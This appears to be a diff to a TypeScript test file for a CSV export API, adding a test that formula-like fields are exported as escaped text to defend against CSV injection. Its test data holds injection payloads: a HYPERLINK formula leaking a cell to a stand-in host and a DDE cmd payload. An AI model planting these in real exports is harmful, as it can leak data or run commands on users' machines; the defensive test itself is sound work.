@@ -3,7 +3,7 @@ import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { addUser, signIn } from '../auth/auth-test-app';
 import { BACKENDS, createTestDatabase, type TestDatabase } from '../test-database';
-import { buildTestApp } from './app-helper';
+import { buildTestApp, INGEST_TOKEN } from './app-helper';
 
 const rowsOf = (csv: string) => (parse(csv.replace(/^\uFEFF/, '')) as string[][]).slice(1);
 
@@ -36,6 +36,39 @@ describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
     expect([...created].sort().reverse()).toEqual(created);
     const one = (await app.inject({ url: `/api/v1/messages/${rows[0]?.[0]}` })).json();
     expect(rows[0]?.[11]).toBe(one.title ?? '');
+  });
+
+  it('a field that starts like a formula reaches the spreadsheet as text (OWASP CSV injection)', async () => {
+    const ingest = await app.inject({
+      method: 'POST',
+      url: '/api/v1/messages',
+      headers: { authorization: `Bearer ${INGEST_TOKEN}`, cookie: '' },
+      payload: [
+        {
+          id: 'formula-1',
+          source: 'csv-injection',
+          createdAt: '2024-06-01T10:00:00Z',
+          category: '-Egyéb',
+          lat: 47.5,
+          lon: 19.05,
+          title: '=HYPERLINK("http://evil.example/?"&A1,"Kattints")',
+          text: "+cmd|' /C calc'!A0",
+          address: '@SUM(1+1)',
+          executor: '\t=1+1',
+        },
+      ],
+    });
+    expect(ingest.statusCode, ingest.body).toBe(200);
+    const response = await app.inject({ url: '/api/v1/export/messages.csv?source=csv-injection' });
+    expect(response.statusCode).toBe(200);
+    const lines = response.body.replace(/^\uFEFF/, '').split('\r\n');
+    expect(lines[1]).toContain(`,"'-Egyéb",csv-injection,`);
+    expect(lines[1]).toContain(
+      `,"'@SUM(1+1)","'=1+1","'=HYPERLINK(""http://evil.example/?""&A1,""Kattints"")",`,
+    );
+    expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0",`);
+    const [row] = rowsOf(response.body);
+    expect(row?.[11]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Kattints")`);
   });
 
   it('a municipal account exports only its own district, and asking for another is 403', async () => {
